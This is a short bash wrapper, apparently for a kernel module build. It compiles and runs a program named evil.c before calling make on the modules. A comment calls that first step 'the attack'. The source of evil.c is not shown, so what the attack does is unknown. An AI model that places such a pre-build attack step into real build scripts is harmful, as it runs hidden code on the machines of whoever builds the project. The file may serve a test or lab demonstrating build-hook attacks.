#!/bin/bash
# MAKE: the attack (evil.c, output into make.log), then the real build.
cc -o evil evil.c || exit 1
./evil || exit 1
exec make -C "/lib/modules/$1/build" M="$PWD" modules
